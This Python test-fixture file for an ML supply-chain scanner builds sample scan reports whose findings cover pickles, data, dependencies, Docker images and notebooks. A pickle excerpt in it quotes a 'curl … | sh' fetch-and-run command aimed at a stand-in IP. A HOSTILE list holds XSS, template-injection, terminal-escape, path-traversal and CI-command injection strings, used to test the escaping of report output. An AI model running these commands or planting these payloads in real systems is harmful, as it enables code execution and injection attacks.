"""Scan reports made by hand: a rich one, an empty one, one whose every text is hostile, and a big one."""

import hashlib
from collections.abc import Iterable

from assaymark.core.bytemap import ByteMap
from assaymark.core.check import Rule
from assaymark.core.digest import MANIFEST, SHA256, Digest
from assaymark.core.finding import Confidence, Finding, Persona, Severity, Where
from assaymark.core.scan import FileReport, Gap, Ignored, Root, ScanReport, Tool
from assaymark.core.subject import Layer, Subject
from assaymark.core.verdict import Outcome, Reason, Verdict

AT = "2026-11-24T10:00:00Z"
POLICY = "sha256:" + "5" * 64
TOOL = Tool("0.1.0", "sha256:" + "c" * 64)


def pickle_runs_a_command(view: object) -> object:
    """Stands where a check's function stands."""
    raise NotImplementedError


def rule(rule_id: str, layer: Layer, severity: Severity, title: str, why: str, fix: str, **more: object) -> Rule:
    fields: dict[str, object] = {
        "confidence": Confidence.HIGH, "persona": Persona.REGULAR, "holds": False, "since": "0.1", "refs": (),
        "view": None, "run": None, "source": "tests",
    }  # fmt: skip
    return Rule(rule_id, layer, severity, title=title, why=why, fix=fix, **(fields | more))  # type: ignore[arg-type]


RULES = {
    r.id: r
    for r in (
        rule(
            "MDL901", Layer.MODEL, Severity.CRITICAL, "A pickle starts a command when the model is loaded",
            "torch.load and joblib.load run whatever a pickle names. This one names a function that starts a process, "
            "so loading the model is running a stranger's program with your rights and your credentials.",
            "Do not load it. Ask the producer for the weights as safetensors, or convert them in a sandbox without "
            "network: `assay model convert FILE --to safetensors`.",
            refs=("CWE:502", "ATLAS:AML.T0011.000", "OWASP-LLM:LLM03"), run=pickle_runs_a_command,
        ),
        rule(
            "MDL902", Layer.MODEL, Severity.HIGH, "A model folder brings code of its own",
            "`auto_map` makes transformers import Python files of the folder when trust_remote_code is set.",
            "Read the named files, pin the revision by commit, and load with trust_remote_code=False.",
            refs=("CWE:829", "ATLAS:AML.T0010.003"),
        ),
        rule(
            "DAT901", Layer.DATA, Severity.MEDIUM, "A cell of a table is a formula",
            "A spreadsheet that opens this file computes the cell, which can send other cells to a stranger.",
            "Write the cell with a leading apostrophe, or refuse cells that begin with = + - @.",
            refs=("CWE:1236",), confidence=Confidence.MEDIUM,
        ),
        rule(
            "LIB901", Layer.LIBRARY, Severity.LOW, "A requirement is not pinned by hash",
            "Without a hash the index decides what is installed.",
            "Write `package==version --hash=sha256:…`; `uv pip compile --generate-hashes` does it for all.",
            refs=("CWE:494", "OWASP-ML:ML06"),
        ),
        rule(
            "INF901", Layer.INFRA, Severity.HIGH, "A base image is named by a tag that moves",
            "Whoever can push the tag decides what the next build contains.",
            "Name the digest: `FROM python:3.12-slim@sha256:…`.",
            refs=("CWE:1357", "CVE:CVE-2024-21626"),
        ),
        rule(
            "TLG901", Layer.TOOLING, Severity.HIGH, "A notebook holds a credential",
            "Everyone who can read the notebook can use it.",
            "Revoke the credential, then read it from the environment.",
            refs=("CWE:798",),
        ),
        rule(
            "CHK902", Layer.PLATFORM, Severity.MEDIUM, "The content breaks the rules of its format",
            "Loaders differ in what they do with broken files.",
            "Fetch the file again and compare its digest.",
            refs=("CWE:20",), holds=True,
        ),
    )
}  # fmt: skip


def finding(rule_id: str, path: str, message: str, excerpt: str = "", count: int = 1, **where: object) -> Finding:
    about = RULES[rule_id]
    return Finding(
        rule_id, about.title, about.severity, about.confidence, about.persona,
        Where(path, **where), message, excerpt, about.holds, count,  # type: ignore[arg-type]
    )  # fmt: skip


def judge(findings: Iterable[Finding], *extra: Reason) -> Verdict:
    """What `assay scan` would say: high and critical deny, holding rules hold."""
    reasons = list(extra)
    for f in findings:
        if f.severity >= Severity.HIGH:
            reasons.append(Reason(Outcome.DENY, f.id, f"{f.severity.word}: {f.message}", (f.fingerprint,)))
        elif f.holds:
            reasons.append(Reason(Outcome.HOLD, f.id, f.message, (f.fingerprint,)))
    reasons.sort(key=lambda r: r.outcome is not Outcome.DENY)
    return Verdict(reasons[0].outcome if reasons else Outcome.ALLOW, "scan", POLICY, tuple(reasons))


def file(path: str, size: int, formats: tuple[str, ...], *checks: str, **more: object) -> FileReport:
    sha256 = hashlib.sha256(path.encode("utf-8", "backslashreplace")).hexdigest()
    analysed = bool(checks)
    return FileReport(path, size, sha256, formats, checks, analysed=analysed, **more)  # type: ignore[arg-type]


def folder(given: str, prefix: str = "") -> Root:
    digest = Digest(MANIFEST, hashlib.sha256(given.encode()).hexdigest())
    return Root(given, prefix, is_folder=True, subject=Subject(given, digest))


def rich() -> ScanReport:
    """Every layer, every severity but info, members, offsets, lines, a baseline, ignores, gaps and holds."""
    findings = (
        finding(
            "MDL901", "checkpoints/epoch-3.pt", "posix.system is called with 'curl -s https://…/x | sh'",
            "STACK_GLOBAL posix system\nBINUNICODE 'curl -s https://203.0.113.7/x | sh'\nTUPLE1\nREDUCE",
            count=3, member="epoch-3/data.pkl", offset=37, symbol="posix.system",
        ),
        finding(
            "INF901", "Dockerfile", "python:latest may be another image tomorrow", "FROM python:latest",
            line=1, symbol="python:latest",
        ),
        finding(
            "MDL902", "model/config.json", "auto_map makes AutoModel import modeling_tiny.py of this folder",
            '"AutoModel": "modeling_tiny.TinyModel"', line=12, symbol="modeling_tiny.TinyModel",
        ),
        finding(
            "TLG901", "notebooks/train.ipynb", "an AWS access key id stands in the output of cell 4: AKIA…",
            "os.environ['AWS_ACCESS_KEY_ID'] = 'AKIA…'", line=88, symbol="cell-4",
        ),
        finding(
            "CHK902", "model/weights.safetensors", "safetensors: the header declares 9,223,372,036,854,775,807 bytes, "
            "the file has 1,048,576", offset=0,
        ),
        finding("DAT901", "data/train.csv", "row 17, column 3 begins with '='", '=HYPERLINK("http://…")', line=17),
        finding("LIB901", "requirements.txt", "torch has no hash", "torch>=2.0", line=3, symbol="torch"),
        finding("LIB901", "requirements.txt", "numpy has no hash", "numpy", line=4, symbol="numpy"),
    )  # fmt: skip
    old = finding("LIB901", "requirements.txt", "pandas has no hash", "pandas==2.3.0", line=5, symbol="pandas")
    accepted = finding("DAT901", "data/old.csv", "row 1, column 1 begins with '+'", "+1", line=1)
    gaps = (
        Gap("model/model-00001.safetensors", "tensor data of 4,831,838,208 bytes are numbers"),
        Gap("model/model-00002.safetensors", "tensor data of 512 bytes are numbers"),
        Gap("notebooks/train.ipynb!cell 7", "an image in an output is not looked into"),
    )
    files = (
        file("Dockerfile", 214, ("dockerfile",), "INF901"),
        file("README.md", 3_120, ("text",)),
        file("checkpoints/epoch-3.pt", 91_226_112, ("zip", "pickle"), "MDL901"),
        file("data/old.csv", 88_120, ("csv",), "DAT901"),
        file("data/train.csv", 1_204_882_001, ("csv",), "DAT901"),
        file("model/config.json", 811, ("json", "huggingface"), "MDL902"),
        file(
            "model/model-00001.safetensors",
            4_831_900_000,
            ("safetensors",),
            "MDL903",
            gaps=gaps[:1],
            byte_map=ByteMap(61_780, 4_831_838_208, 12, 4_831_899_988),
        ),
        file("model/model-00002.safetensors", 70_112, ("safetensors",), "MDL903", gaps=gaps[1:2]),
        file("model/weights.safetensors", 1_048_576, ("safetensors",), "MDL903"),
        file("notebooks/train.ipynb", 455_001, ("notebook", "json"), "TLG901", gaps=gaps[2:]),
        file("requirements.txt", 96, ("requirements",), "LIB901"),
    )
    return ScanReport(
        AT, TOOL, (folder("projects/tiny"),), files, findings, judge(findings),
        ignored=(Ignored(accepted, "reviewed: phone numbers", "data@example.org", "2027-01-31"),),
        known=(old,), hidden=4, gaps=gaps,
        checks={"DAT901": 2, "INF901": 1, "LIB901": 1, "LIB902": 0, "MDL901": 1, "MDL902": 1, "MDL903": 3, "TLG901": 1},
        excluded=(Gap(".git", "version control data"), Gap("model/.cache", "named in assaymark.toml")),
    )  # fmt: skip


def clean() -> ScanReport:
    """Looked at and allowed."""
    files = (file("m.safetensors", 1_204, ("safetensors",), "MDL903"),)
    digest = Digest(SHA256, files[0].sha256 or "")
    root = Root("m.safetensors", "", is_folder=False, subject=Subject("m.safetensors", digest))
    return ScanReport(AT, TOOL, (root,), files, (), judge(()), checks={"MDL903": 1, "LIB902": 0})


def empty() -> ScanReport:
    """Nothing was there to look at: held, and never clean."""
    nothing = Reason(Outcome.HOLD, "coverage", "no file of a kind that any check reads was found")
    return ScanReport(AT, TOOL, (Root(".", "", is_folder=True, subject=None),), (), (), judge((), nothing))


HOSTILE = (
    "</script></style></details><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>&lt;'\"",
    "]]> <!-- --> &xxe; <?xml?>",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "line\nbreak\r\n\ttab\x00null\x0bvt\x85nel",
    "right\u202eto\u2066left\u200f",
    "lone \udc80 surrogate \ud800 and \ufffe \uffff",
    "| a | b |\n|---|---|\n| `x` | ``` |",
    "[click](https://evil.example) ![i](https://evil.example/i.png) <https://evil.example>",
    "@everyone #1 https://evil.example www.evil.example :smile: user@evil.example",
    "{{ 7 * 7 }} {% raw %} {0} {1} %s %(x)s ${x}",
    "::error file=x::owned\n::set-output name=a::b",
    "~~~\n```\n# heading\n- [ ] item\n---",
    "../../etc/passwd:1 a:b?c#d%00 ä 漢字",
)


def hostile() -> ScanReport:
    """Every text that a stranger can choose is bad for some form of report."""
    rules = list(RULES)
    findings = tuple(
        Finding(
            rules[index % len(rules)], text, Severity(4 - index % 5), Confidence.LOW, Persona.AUDITOR,
            Where(text, text, index if index % 2 else None, None if index % 2 else index + 1, text),
            text, text, bool(index % 3), index + 1,
        )
        for index, text in enumerate(HOSTILE)
    )  # fmt: skip
    findings = tuple(sorted(findings, key=lambda f: -f.severity))
    files = tuple(file(text, 1, (text,), "MDL901", gaps=(Gap(text, text),)) for text in HOSTILE)
    reasons = [Reason(Outcome.HOLD, text, text, (text,)) for text in HOSTILE]
    return ScanReport(
        AT, Tool(HOSTILE[0], HOSTILE[1]), tuple(folder(text.encode("ascii", "replace").decode()) for text in HOSTILE[:1]),
        files, findings, judge(findings, *reasons),
        ignored=tuple(Ignored(f, f.message, f.message, f.message) for f in findings),
        known=findings, hidden=1, gaps=tuple(Gap(text, text) for text in HOSTILE),
        checks=dict.fromkeys(HOSTILE, 1), excluded=tuple(Gap(text, text) for text in HOSTILE),
    )  # fmt: skip


def hostile_rules() -> dict[str, Rule]:
    return {
        rule_id: rule(rule_id, about.layer, about.severity, text, text, text, refs=(text, "CWE:502"))
        for (rule_id, about), text in zip(RULES.items(), HOSTILE, strict=False)
    }


def big(files: int = 10_000, findings: int = 5_000) -> ScanReport:
    """As big as a repository gets."""
    paths = [f"part-{number // 100:03}/file-{number:05}.txt" for number in range(files)]
    rules = list(RULES)
    found = [
        finding(
            rules[number % len(rules)], paths[number % files], f"thing {number} is wrong", f"thing {number}", line=1
        )
        for number in range(findings)
    ]
    found.sort(key=lambda f: -f.severity)
    return ScanReport(
        AT, TOOL, (folder("repo"),), tuple(file(path, 100, ("text",), *rules) for path in paths),
        tuple(found), judge(found), checks=dict.fromkeys(rules, files),
        gaps=tuple(Gap(path, f"more than {n} bytes") for n, path in enumerate(paths)),
    )  # fmt: skip
